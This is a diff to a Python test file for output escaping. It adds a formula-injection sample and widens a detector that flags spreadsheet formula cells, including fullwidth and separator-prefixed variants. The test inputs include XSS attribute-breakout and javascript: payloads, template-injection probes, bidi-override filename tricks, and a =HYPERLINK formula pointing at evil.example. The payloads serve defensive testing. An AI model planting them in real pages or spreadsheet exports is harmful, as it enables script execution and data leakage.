@@ -26,6 +26,7 @@ NAMES = {
     "HTML": HTML,
     "attributes": f'{MARK}" autofocus onfocus="alert(1)" x=\' {{{{ {MARK} }}}}{{% debug %}}${{7*7}} @SUM(1+1)|cmd',
     "address": f"javascript:alert('{MARK}')",
+    "formula elsewhere": f"{MARK};=1+1\t=2+2 ＝3+3\n＋4",
     "formula": f'=HYPERLINK("//evil.example?{MARK}") \u202egpj.exe\u202c \u2066\u200f\r\n\u2028second\u0085line',
 }
 HANDLER = re.compile(r"^on|^(?:href|src|action|formaction|hx-\w+|xlink:href)$")
@@ -59,7 +60,8 @@ def faults_of(html: str) -> list[str]:
 
 def formulas_of(table: str) -> list[str]:
     """Cells that a spreadsheet would compute."""
-    return [cell for row in csv.reader(StringIO(table)) for cell in row if cell.startswith(tuple("=+-@\t\r"))]
+    cells = [cell for row in csv.reader(StringIO(table, newline="")) for cell in row]
+    return [cell for cell in cells if re.search(r"""(?:^|[;|\t\r\n])[\s"]*[=+\-@＝＋－＠]""", cell)]
 
 
 # JSON is saved as a file: no browser shows it, and no cell of it is computed.
@@ -127,7 +129,7 @@ def test_names_are_text_on_every_page(
 @pytest.mark.parametrize("name", NAMES.values(), ids=NAMES.keys())
 def test_inspector_sees_what_would_run(name: str) -> None:
     """The test above could not fail if this did not."""
-    assert bool(faults_of(f'<a href="{name}" title="{name}">{name}</a>')) == (name != NAMES["formula"])
+    assert bool(faults_of(f'<a href="{name}" title="{name}">{name}</a>')) == (not name.startswith(("=", f"{MARK};")))
 
 
 @pytest.mark.parametrize(("length", "status"), [(120, 302), (121, 422), (301, 422), (5_000, 422)])
